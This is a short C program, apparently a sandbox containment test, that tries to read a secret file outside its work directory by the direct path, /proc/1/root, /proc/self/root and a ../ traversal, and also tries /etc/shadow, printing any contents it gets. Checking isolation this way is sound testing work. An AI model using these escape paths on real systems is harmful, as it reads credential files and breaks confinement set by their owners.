/* Escape attempt: read a secret file outside the work directory.
 * argv[1] = absolute host path of the secret. Prints LEAK:<content> if any read works. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void try_read(const char *path) {
    char buf[256];
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("denied %s: %s\n", path, strerror(errno)); return; }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0) { buf[n] = 0; printf("LEAK:%s via %s\n", buf, path); }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    char path[4096];
    try_read(argv[1]);
    snprintf(path, sizeof path, "/proc/1/root%s", argv[1]);
    try_read(path);
    snprintf(path, sizeof path, "/proc/self/root%s", argv[1]);
    try_read(path);
    snprintf(path, sizeof path, "/work/../../../..%s", argv[1]);
    try_read(path);
    try_read("/etc/shadow");
    return 0;
}
